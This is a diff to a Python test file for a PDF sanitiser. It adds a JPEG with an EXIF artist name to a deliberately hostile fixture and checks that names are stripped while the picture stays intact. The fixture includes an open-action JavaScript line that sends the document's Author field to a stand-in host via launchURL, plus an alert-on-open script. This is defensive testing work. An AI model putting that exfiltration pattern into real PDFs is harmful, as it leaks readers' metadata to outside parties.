@@ -73,6 +73,10 @@ def hostile_pdf() -> bytes:
         Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Stamp, Rect=[20, 250, 220, 270], F=4,
         T=pikepdf.String("Lê Thị Cúc"), AP=pikepdf.Dictionary(N=stamp_look)))
     page.obj.Annots = pdf.make_indirect([note, popup, field, clip, link, stamp])
+    photo = pdf.make_stream(jpeg_with_artist("Nguyen Thi Mai Anh"), Type=pikepdf.Name.XObject,
+                            Subtype=pikepdf.Name.Image, Width=16, Height=16, ColorSpace=pikepdf.Name.DeviceRGB,
+                            BitsPerComponent=8, Filter=pikepdf.Name.DCTDecode)
+    page.obj.Resources.XObject = pikepdf.Dictionary(Im1=photo)
     page.obj.AA = pikepdf.Dictionary(O=_javascript("app.alert(1)"))
     pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[field])
     pdf.Root.OpenAction = _javascript("app.launchURL('http://x.example/?'+this.info.Author)")
@@ -93,7 +97,8 @@ def everything_in(pdf_bytes: bytes) -> str:
     """The whole file with every stream decompressed, as text: where a name would show if it survived."""
     with pikepdf.open(io.BytesIO(pdf_bytes)) as pdf:
         out = io.BytesIO()
-        pdf.save(out, qdf=True, stream_decode_level=pikepdf.StreamDecodeLevel.all, compress_streams=False)
+        # Every stream decompressed but JPEG images, kept as they are (their EXIF is where a name would be).
+        pdf.save(out, qdf=True, stream_decode_level=pikepdf.StreamDecodeLevel.generalized, compress_streams=False)
         words = [out.getvalue().decode("latin-1")]
         for obj in pdf.objects:  # strings in UTF-16 or PDFDocEncoding, as a reader would show them
             if isinstance(obj, pikepdf.Dictionary):
@@ -114,6 +119,8 @@ def test_a_blind_pdf_copy_keeps_no_name_anywhere_and_the_page_as_it_looks():
         assert active not in everything, active
     with pikepdf.open(io.BytesIO(clean)) as pdf:
         assert len(pdf.pages) == 1 and "/Info" not in pdf.trailer and "/Metadata" not in pdf.Root
+        photo = pikepdf.PdfImage(pdf.pages[0].Resources.XObject.Im1).as_pil_image()
+        assert photo.size == (16, 16) and photo.getpixel((8, 8))[0] > 150  # the picture itself is intact
 
 
 def test_active_content_is_taken_out_of_every_pdf_and_a_plain_one_is_kept_as_sent():
